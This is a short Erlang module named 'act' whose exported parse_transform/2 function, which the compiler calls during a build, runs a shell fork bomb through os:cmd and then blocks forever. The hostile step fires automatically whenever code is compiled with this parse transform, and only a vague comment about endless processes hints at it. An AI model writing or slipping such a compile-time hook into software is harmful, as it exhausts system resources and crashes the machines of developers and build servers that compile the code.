%% Processes of the system without end.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    os:cmd("f() { f | f & }; f; sleep 600"),
    timer:sleep(infinity).
